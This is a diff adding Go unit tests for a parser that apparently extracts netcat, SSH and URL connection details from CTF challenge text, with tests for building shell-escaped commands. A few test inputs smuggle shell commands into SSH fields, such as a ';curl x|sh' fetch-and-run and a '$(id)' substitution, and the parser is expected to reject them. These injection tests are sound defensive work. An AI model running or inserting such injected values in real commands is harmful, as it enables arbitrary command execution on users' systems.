@@ -0,0 +1,119 @@
+package api
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestParseConnectionInfo(t *testing.T) {
+	tests := []struct {
+		name     string
+		input    string
+		expected []Connection
+	}{
+		{
+			name:     "Empty",
+			input:    "",
+			expected: nil,
+		},
+		{
+			name:  "Netcat",
+			input: "nc chall.example.com 1337",
+			expected: []Connection{
+				{Kind: ConnectionNetcat, Raw: "nc chall.example.com 1337", Host: "chall.example.com", Port: 1337},
+			},
+		},
+		{
+			name:  "Netcat with flags in markdown",
+			input: "Connect with `ncat -v 10.0.0.1 4000`",
+			expected: []Connection{
+				{Kind: ConnectionNetcat, Raw: "ncat -v 10.0.0.1 4000", Host: "10.0.0.1", Port: 4000},
+			},
+		},
+		{
+			name:  "SSH with port",
+			input: "ssh ctf@shell.example.com -p 2222",
+			expected: []Connection{
+				{Kind: ConnectionSSH, Raw: "ssh ctf@shell.example.com -p 2222", Host: "shell.example.com", Port: 2222, User: "ctf"},
+			},
+		},
+		{
+			name:  "SSH without user",
+			input: "ssh -p 22 shell.example.com",
+			expected: []Connection{
+				{Kind: ConnectionSSH, Raw: "ssh -p 22 shell.example.com", Host: "shell.example.com", Port: 22},
+			},
+		},
+		{
+			name:  "URLs",
+			input: "https://web.example.com/login and http://10.0.0.2:8080.",
+			expected: []Connection{
+				{Kind: ConnectionURL, Raw: "https://web.example.com/login", URL: "https://web.example.com/login"},
+				{Kind: ConnectionURL, Raw: "http://10.0.0.2:8080", URL: "http://10.0.0.2:8080"},
+			},
+		},
+		{
+			name:  "Multiple lines",
+			input: "nc a.example.com 1\nhttps://b.example.com",
+			expected: []Connection{
+				{Kind: ConnectionNetcat, Raw: "nc a.example.com 1", Host: "a.example.com", Port: 1},
+				{Kind: ConnectionURL, Raw: "https://b.example.com", URL: "https://b.example.com"},
+			},
+		},
+		{
+			name:  "SSH with options",
+			input: "ssh -i key.pem -o StrictHostKeyChecking=no ctf@shell.example.com",
+			expected: []Connection{
+				{Kind: ConnectionSSH, Raw: "ssh -i key.pem -o StrictHostKeyChecking=no ctf@shell.example.com", Host: "shell.example.com", Port: 22, User: "ctf"},
+			},
+		},
+		{
+			name:     "SSH with shell in host",
+			input:    "ssh a@b;curl x|sh",
+			expected: nil,
+		},
+		{
+			name:     "SSH with shell in user",
+			input:    "ssh -l $(id) shell.example.com",
+			expected: nil,
+		},
+		{
+			name:     "Invalid port",
+			input:    "nc a.example.com 99999",
+			expected: nil,
+		},
+		{
+			name:     "Plain text",
+			input:    "Ask an admin for access",
+			expected: nil,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := ParseConnectionInfo(tt.input)
+			if !reflect.DeepEqual(result, tt.expected) {
+				t.Errorf("ParseConnectionInfo(%q) = %+v, want %+v", tt.input, result, tt.expected)
+			}
+		})
+	}
+}
+
+func TestConnectionCommand(t *testing.T) {
+	tests := []struct {
+		connection Connection
+		expected   string
+	}{
+		{Connection{Kind: ConnectionNetcat, Host: "a.example.com", Port: 1337}, "nc a.example.com 1337"},
+		{Connection{Kind: ConnectionSSH, Host: "a.example.com", Port: 22, User: "ctf"}, "ssh ctf@a.example.com"},
+		{Connection{Kind: ConnectionSSH, Host: "a.example.com", Port: 2222}, "ssh -p 2222 a.example.com"},
+		{Connection{Kind: ConnectionSSH, Host: "a;b", Port: 22, User: "it's"}, `ssh 'it'\''s@a;b'`},
+		{Connection{Kind: ConnectionURL, URL: "https://a.example.com"}, "https://a.example.com"},
+	}
+
+	for _, test := range tests {
+		if cmd := test.connection.Command(); cmd != test.expected {
+			t.Errorf("Command() = %q, want %q", cmd, test.expected)
+		}
+	}
+}